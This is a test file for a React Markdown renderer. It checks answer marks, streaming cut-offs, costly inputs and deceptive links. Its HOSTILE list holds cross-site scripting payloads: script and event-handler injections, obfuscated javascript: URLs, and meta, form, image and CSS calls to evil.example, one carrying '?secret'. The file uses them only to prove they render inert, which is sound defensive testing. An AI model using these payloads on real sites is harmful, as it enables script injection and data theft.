import { MantineProvider } from '@mantine/core';
import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';

import { SpeechContext } from '../words';
import { tables } from '../words/tables';
import { Markdown } from './Markdown';
import type { Mark } from './MarkdownMarks';
import { markFormulas } from './MarkdownSource';

beforeAll(() => {
  vi.stubGlobal('matchMedia', () => ({
    matches: false,
    addEventListener: vi.fn(),
    removeEventListener: vi.fn(),
  }));
});
afterEach(cleanup);

function show(text: string, live = false, marks: Mark[] = []) {
  const { container } = render(
    <SpeechContext value={{ language: 'en', words: tables.en, setLanguage: () => undefined }}>
      <MantineProvider>
        <main>
          <Markdown text={text} live={live} marks={marks} />
        </main>
      </MantineProvider>
    </SpeechContext>,
  );
  return container.querySelector('main') as HTMLElement;
}

describe('marks', () => {
  const marked = (text: string, ...after: string[]) => {
    const marks = after.map((words, index) => ({
      at: text.indexOf(words) + words.length,
      node: <b>{`[${index + 1}]`}</b>,
    }));
    return show(text, false, marks);
  };

  it.each([
    ['One **two**. Three.', ['**two**.', 'Three.'], 'One two.[1] Three.[2]'],
    ['- one\n- two', ['- one', '- two'], 'one[1]two[2]'],
    ['A [link](https://a.example) ends', ['example)'], 'A link[1] ends'],
    ['5 \\* 3 is 15. And so on.', ['15.'], '5 * 3 is 15. And so on.[1]'],
    ['Costs \\(x\\) here. More.', ['here.'], 'here. More.[1]'],
  ])('stand in %s behind what they are about', (text, after, expected) => {
    expect(marked(text, ...after).textContent.replace(/\n/g, '')).toContain(expected);
  });

  it('stay in the last cell of a row, and outside of code', () => {
    const table = marked('| a | b |\n| - | - |\n| 1 | 2 |\n', '| 2 |');
    expect(table.querySelector('td:last-child')?.textContent).toBe('2[1]');
    const code = marked('```\ncode\n```\n', 'code');
    expect(code.querySelector('pre')?.textContent).toBe('code\n');
    expect(code.textContent).toContain('[1]');
  });

  it('find their places in each block of a long text, and in one that is not parsed', () => {
    const long = `${'word '.repeat(200)}\n\nThe end. And more.`;
    expect(marked(long, 'The end.').textContent).toContain('The end.[1] And more.');
    const unparsable = `${'>'.repeat(40)} deep. And more.`;
    expect(marked(unparsable, 'deep.').textContent).toContain('deep.[1] And more.');
  });
});

const LIVING =
  'script, iframe, object, embed, form, meta, link, base, style, img, video, audio, image, foreignObject, use, animate';

/** Nothing that loads, runs, or leads where a text should not lead. */
function expectInert(main: HTMLElement) {
  expect(main.querySelector(LIVING)).toBeNull();
  for (const element of main.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name, value).not.toMatch(/^on/i);
      expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data|blob|file):/i);
      if (name === 'style') expect(value).not.toMatch(/url\(|expression|position:\s*fixed/i);
      if (name === 'src' || name === 'srcset' || name === 'id') expect.unreachable(`${name}=${value}`);
    }
  }
  for (const link of main.querySelectorAll('a')) {
    expect(link.href).toMatch(/^(https?:\/\/|mailto:)/);
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer nofollow');
  }
}

const HOSTILE = [
  '<script>window.hit = 1</script>',
  'a <img src=x onerror="window.hit = 1"> b',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<base href="https://evil.example/"><form action="https://evil.example"><button>x</button></form>',
  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
  '<details open ontoggle="window.hit = 1"><summary>x</summary></details>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '[x](javascript:window.hit=1) [y](JaVaScRiPt:window.hit=1) [z](&#106;avascript:window.hit=1)',
  '[x]( java\tscript:window.hit=1 ) [y](\x01javascript:window.hit=1) <javascript:window.hit=1>',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)',
  '[x](blob:https://evil.example/1) [y](//evil.example) [z](/admin) [w](#main) [v](?key=1)',
  '[x]: javascript:window.hit=1\n\n[x] ![x][x]',
  '![pixel](https://evil.example/track.png?secret) ![x](javascript:window.hit=1) ![y](data:image/svg+xml,<svg/onload=1>)',
  '[![x](https://evil.example/a.png)](javascript:window.hit=1)',
  '[x](https://good.example "\\" onmouseover=\\"window.hit=1")',
  'note[^1]\n\n[^1]: <script>window.hit = 1</script> [x](javascript:window.hit=1)',
  '- [x] <input onfocus="window.hit = 1" autofocus>',
  '| a | b |\n| - | - |\n| <img src=x onerror=1> | [x](javascript:1) |',
  '```html" onmouseover="window.hit=1\n<script>window.hit = 1</script>\n```',
  '<!-- --><script>window.hit = 1</script>\n<![CDATA[<script>window.hit = 1</script>]]>',
  '$\\href{javascript:window.hit=1}{x}$ and $\\url{javascript:window.hit=1}$',
  '$$\\includegraphics[height=1em]{https://evil.example/x.png}$$',
  '$\\htmlStyle{position:fixed;background:url(https://evil.example)}{x}$ $\\htmlId{main}{x}$ $\\htmlData{a=b}{x}$',
  '$\\text{</annotation></semantics></math><img src=x onerror=window.hit=1>}$',
  '$\\def\\a{\\a\\a}\\a$ and $\\rule{999999em}{999999em}$',
  '$\\htmlClass{mantine-Modal-root}{x}$ $\\newcommand{\\x}{\\href{javascript:window.hit=1}{y}}\\x$',
  '[![x](https://evil.example/a.png)](https://good.example) <a id="main" name="root">x</a>',
  '[x](java&Tab;script:window.hit=1) [y](&#x1;javascript:window.hit=1) [z](jav&NewLine;ascript&colon;window.hit=1)',
  '[x](https:javascript:window.hit=1) [y](HTTP:\\evil.example) [z](\u2028javascript:window.hit=1)',
  '# <h1 id="root">x</h1>\n\nnote[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y',
  '```constructor\nx\n```\n\n```__proto__\ny\n```\n\n~~~javascript:window.hit=1\nz\n~~~',
  '$\\unicode{<script>} \\frac{<img src=x onerror=1>$ \\(\\href{javascript:1}{y}\\)',
];

describe('hostile text', () => {
  it.each(HOSTILE)('stays text: %s', async (text) => {
    const warn = vi.spyOn(console, 'error');
    const main = show(text);
    if (markFormulas(text).formulas)
      await waitFor(() => expect(main.querySelector('.katex, .katex-error')).not.toBeNull());
    expectInert(main);
    expect((window as { hit?: number }).hit).toBeUndefined();
    expect(warn).not.toHaveBeenCalled();
    warn.mockRestore();
  });

  it.each(HOSTILE)('is inert wherever the stream has just been cut: %s', (text) => {
    for (let length = 2; length < text.length; length += 9) {
      expectInert(show(text.slice(0, length), true));
      cleanup();
    }
  });

  it.each([
    ['quotes', '> '.repeat(20_000)],
    ['quotes without blanks', '>'.repeat(20_000)],
    ['list in one line', '- '.repeat(9_000)],
    [
      'list over many lines',
      Array.from({ length: 140 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    ],
    ['brackets', '['.repeat(20_000)],
    ['emphasis', '*a **b '.repeat(2_500)],
    ['code ticks', Array.from({ length: 150 }, (_, length) => '`'.repeat(length)).join(' ')],
    ['braces in a formula', `$${'{'.repeat(400)}${'}'.repeat(400)}$`],
    ['formulas that never close', '\\('.repeat(9_000)],
    ['dollars', '$'.repeat(20_000)],
    ['a table that fills itself', `|${'a|'.repeat(900)}\n|${'-|'.repeat(900)}\n${'x\n'.repeat(900)}`],
    ['underlined headings', 'a\n=\n'.repeat(5_000)],
  ])('that is costly is shown without failing: %s', (_, text) => {
    const main = show(text);
    expect(main.textContent?.length).toBeGreaterThan(0);
    expectInert(main);
  });

  it('a formula whose macros explode is shown as its source', async () => {
    const text = `$\\def\\a{${'x'.repeat(800)}}\\def\\b{${'\\a'.repeat(12)}}${'\\b'.repeat(12)}$`;
    const main = show(text);
    await waitFor(() => expect(main.querySelector('.katex-error')).not.toBeNull());
    expect(main.querySelectorAll('*').length).toBeLessThan(20);
  });

  it('that reads otherwise than it runs is marked in code, and copied as it was written', () => {
    const main = show('`a\u202eb` and c\u202ed\n\n```\nif x:\u2066 # y\u200b\n```');
    const marked = [...main.querySelectorAll('mark')].map((mark) => mark.textContent);
    expect(marked).toEqual(['U+202E', 'U+2066', 'U+200B']);
    expect(main.querySelector('code')?.textContent).toBe('aU+202Eb');
  });

  it('that names another host than its link leads to shows that host', () => {
    const main = show(
      '[https://bank.example/login](https://evil.example/x) [a.example](https://www.a.example)',
    );
    expect(main.textContent).toBe('https://bank.example/login (evil.example) a.example');
  });

  it('an answer that is one line of 50 kB is shown whole', () => {
    const text = 'endless '.repeat(6_400);
    expect(show(text).textContent).toBe(text);
  });
});

describe('Markdown', () => {
  it('links outward only, and says where an image would have been', () => {
    const main = show('[a](https://a.example/?q=1) <b@c.example> ![the alt](https://a.example/i.png)');
    const links = [...main.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(links).toEqual(['https://a.example/?q=1', 'mailto:b@c.example', 'https://a.example/i.png']);
    expect(main.textContent).toContain('Image, not loaded: the alt');
  });

  it('draws tables, tasks, code and headings below the view’s own', async () => {
    const main = show(
      '# One\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] yes\n- [ ] no\n\n```python\nprint(1)\n```',
    );
    expect(main.querySelector('h3')?.textContent).toBe('One');
    expect(main.querySelectorAll('td')).toHaveLength(2);
    expect(main.querySelectorAll('[role=img]')).toHaveLength(2);
    expect(main.querySelector('pre')?.textContent).toBe('print(1)\n');
    expect(main.querySelector('[role=group][aria-label="Code: python"]')).not.toBeNull();
    await waitFor(() => expect(main.querySelector('.hljs-built_in')).not.toBeNull());
  });

  it('shows a half-open fence as code and a half-open formula as text', () => {
    expect(show('```js\nlet a = ', true).querySelector('pre')?.textContent).toBe('let a = \n');
    expect(show('so $\\frac{1}{', true).textContent).toContain('$\\frac{1}{');
  });

  it('goes on counting where a long list is cut', () => {
    const list = Array.from({ length: 90 }, (_, index) => `${index + 1}. ${'word '.repeat(12)}`);
    const lists = [...show(list.join('\n')).querySelectorAll('ol')];
    expect(lists.length).toBeGreaterThan(2);
    let next = 1;
    for (const { start, children } of lists) {
      expect(start).toBe(next);
      next += children.length;
    }
  });

  it('lets each paragraph run in its own direction', () => {
    const main = show('مرحبا\n\nhello');
    expect([...main.querySelectorAll('p')].map((one) => one.dir)).toEqual(['auto', 'auto']);
  });

  it('shows a broken formula as its source', async () => {
    const main = show('$\\frac{1}{$');
    await waitFor(() => expect(main.querySelector('.katex-error')).not.toBeNull());
    expect(main.textContent).toContain('\\frac{1}{');
  });
});
